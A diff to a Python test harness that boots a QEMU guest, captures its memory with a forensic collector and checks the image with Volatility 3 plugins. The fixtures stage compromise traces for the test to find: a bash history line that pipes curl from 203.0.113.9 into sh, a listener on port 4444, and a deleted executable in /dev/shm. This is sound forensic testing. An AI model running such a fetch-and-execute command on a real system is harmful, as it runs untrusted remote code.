@@ -1,7 +1,7 @@
 """The proof that memory arrives: boots a guest with a real kernel, runs the script of the real Command document in it,
 and reads the image that comes out. What no test with a made-up `/proc/kcore` can show.
 
-    proof.py --collector FILE --cache FOLDER [--install] [--only main] [--keep FOLDER]
+    proof.py --collector FILE --cache FOLDER [--symbols FILE --volatility FILE] [--install] [--only main] [--keep FOLDER]
 
 Ends with `N passed, N failed, N skipped`; skipped, with the reason, where QEMU or the kernel cannot be had.
 """
@@ -106,8 +106,10 @@ def records(image: bytes) -> list[tuple[int, int]]:
 
 
 class Setting:
-    def __init__(self, folder: Path, cache: Path, collector: Path) -> None:
+    def __init__(self, folder: Path, cache: Path, collector: Path, symbols: str | None, volatility: str | None) -> None:
         self.folder = folder
+        self.symbols = symbols
+        self.volatility = volatility
         self.collector = collector.read_bytes()
         self.kernel = guest.unpack(cache)
         buckets.authority(folder, "bucket")
@@ -151,7 +153,44 @@ def main_case(setting: Setting) -> str:
     equal(contents["/root/.bash_history"], "curl http://203.0.113.9/x | sh\n", "the history")
     summary = run.summary()
     told = f"{summary['stream']['bytes'] >> 20} MiB in {summary['milliseconds'] / 1000:.1f} s, {summary['peakKib'] >> 10} MiB of memory"
-    return told + f", {len(summary['gaps'])} gaps"
+    told += f", {len(summary['gaps'])} gaps"
+    if setting.symbols and setting.volatility:
+        told += f"; {read_by_volatility(setting, run)}"
+    return told
+
+
+def read_by_volatility(setting: Setting, run: Run) -> str:
+    """Reads the image with symbols made of the guest's own BTF and kallsyms, and nothing else."""
+    made = subprocess.run([setting.symbols, run.bucket.folder], capture_output=True, text=True, check=False)
+    equal(made.returncode, 0, f"stasis-symbols: {made.stdout}")
+    (run.folder / "symbols/linux").mkdir(parents=True)
+    shutil.copy(run.bucket.folder / "symbols.json", run.folder / "symbols/linux/guest.json")
+    image = run.folder / "image.lime"
+    image.write_bytes(run.bucket.image())
+
+    def plugin(name: str) -> list[dict]:
+        cache = ("--cache-path", str(run.folder / "cache"))
+        command = [setting.volatility, "-q", "-r", "json", *cache, "-s", run.folder / "symbols", "-f", image, f"linux.{name}"]
+        read = subprocess.run(command, capture_output=True, text=True, check=False, timeout=LIMIT_SECONDS)
+        assert read.returncode == 0, f"linux.{name}: {read.stderr[-600:]}"
+        return json.loads(read.stdout)
+
+    listed = {process["PID"]: process["COMM"] for process in plugin("pslist")}
+    alive = {p["pid"]: p["name"] for p in state_of(run) if p["type"] == "process"}
+    # Every process that the collector saw, by the name that it saw; workers of the kernel come and go.
+    missing = {pid: name for pid, name in alive.items() if pid not in listed and not name.startswith("kworker")}
+    equal(missing, {}, "processes of the state that are not in the image")
+    deleted = next(p["pid"] for p in state_of(run) if p["type"] == "process" and p["deleted"])
+    arguments = {process["PID"]: process["ARGS"] for process in plugin("psaux")}
+    equal(arguments[deleted], "/dev/shm/sleep 100001", "the command line of the deleted executable")
+    assert any("(deleted)" in m["File Path"] for m in plugin("proc.Maps") if m["PID"] == deleted), "its map says deleted"
+    values = [variable["VALUE"] for variable in plugin("envars") if variable["KEY"] == "MARK"]
+    equal(values, [run.marker.decode()], "the marker in the environment of its process")
+    ports = {str(socket["Source Port"]) for socket in plugin("sockstat") if socket["State"] == "LISTEN"}
+    equal(ports, {"4444"}, "listening sockets")
+    modules = {module["Module Name"] if "Module Name" in module else module["Name"] for module in plugin("lsmod")}
+    assert "virtio_net" in modules, modules
+    return f"Volatility lists {len(listed)} processes, the marker, the deleted executable and the listener"
 
 
 def integrity(setting: Setting) -> str:
@@ -248,6 +287,8 @@ def main() -> int:
     parser.add_argument("--collector", type=Path, required=True, help="the static collector for x86_64")
     parser.add_argument("--cache", type=Path, required=True, help="where the kernel is kept")
     parser.add_argument("--only", nargs="*", choices=CASES, default=list(CASES))
+    parser.add_argument("--symbols", help="stasis-symbols; with --volatility the image is read as an analyst reads it")
+    parser.add_argument("--volatility", help="vol of Volatility 3")
     parser.add_argument("--install", action="store_true", help="install what is missing, where this is root on Debian")
     parser.add_argument("--keep", type=Path, help="an empty folder in which what was received stays")
     arguments = parser.parse_args()
@@ -261,7 +302,8 @@ def main() -> int:
     passed = failed = 0
     with tempfile.TemporaryDirectory(prefix="vm-proof-", dir=arguments.cache) as folder:
         try:
-            setting = Setting(arguments.keep or Path(folder), arguments.cache, arguments.collector)
+            tools = (arguments.symbols, arguments.volatility)
+            setting = Setting(arguments.keep or Path(folder), arguments.cache, arguments.collector, *tools)
         except (guest.NotHere, subprocess.CalledProcessError) as reason:
             print(f"skipped: {reason}\n0 passed, 0 failed, {len(arguments.only)} skipped")
             return 0
